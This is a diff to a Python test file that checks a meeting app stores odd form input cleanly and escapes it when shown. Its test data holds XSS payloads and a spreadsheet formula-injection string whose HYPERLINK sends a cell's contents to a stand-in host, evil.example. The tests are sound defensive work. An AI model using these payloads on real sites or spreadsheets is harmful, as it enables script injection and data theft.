@@ -34,7 +34,6 @@ from PIL import Image
 
 from roundtable.audit.models import Event
 from roundtable.common.idempotency import new_key
-from roundtable.common.text import clean_text
 from roundtable.meetings.actions import add_agenda_item, add_resolution, check_in
 from roundtable.meetings.models import (
     ActionItem,
@@ -439,8 +438,10 @@ FORMS: dict[str, Form] = {
 HTML = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
         '<a href="javascript:alert(1)">点我</a>', "javascript:alert(1)"]  # fmt: skip
 FORMULAS = ['=HYPERLINK("http://evil.example/?a="&A1,"点我")', "+1+1", "-1+1", "@SUM(1)"]
+# What is kept of the three kinds of invisible text; everything else is kept as typed.
+CLEANED = f"楼道灯坏了{MARK}"
 TEXTS = {
-    "control": f"楼道\x00灯\x0b坏\x1b了{MARK}",
+    "control": f"楼道\x01灯\x0b坏\x1b了\x7f{MARK}",  # (Django refuses a NUL itself)
     "zero_width": f"楼\u200b道\u200c灯\u200d坏\ufeff了\u2060{MARK}",
     "bidi": f"楼道\u202e灯坏了\u202c{MARK}",
     **{f"html_{i}": f"{text}{MARK}" for i, text in enumerate(HTML)},
@@ -545,7 +546,7 @@ def test_a_text_only_of_invisible_characters_is_empty(ask, world, name):
     """Refused as empty where the text is required; stored as empty where it is optional."""
     form = FORMS[name]
     before = _counts(form)
-    response = _post(ask, world, form, ZERO_WIDTH * 3 + "\x00 \u202e")
+    response = _post(ask, world, form, ZERO_WIDTH * 3 + "\x0b \u202e")
     if form.required:
         _refused(response)
         assert _counts(form) == before
@@ -563,8 +564,7 @@ def test_odd_text_is_stored_clean(ask, world, name, case):
     response = _post(ask, world, form, value)
     assert response.status_code == 302, _errors(response)
     stored = [getattr(row, form.stored[1]) for row in _stored(form)]
-    assert stored == [clean_text(value)]
-    assert clean_text(value) == value or case in ("control", "zero_width", "bidi")
+    assert stored == [CLEANED if case in ("control", "zero_width", "bidi") else value]
     if case.startswith("html") and form.shown:
         # Shown as text: escaped, never as a tag or a link.
         (row,) = _stored(form)
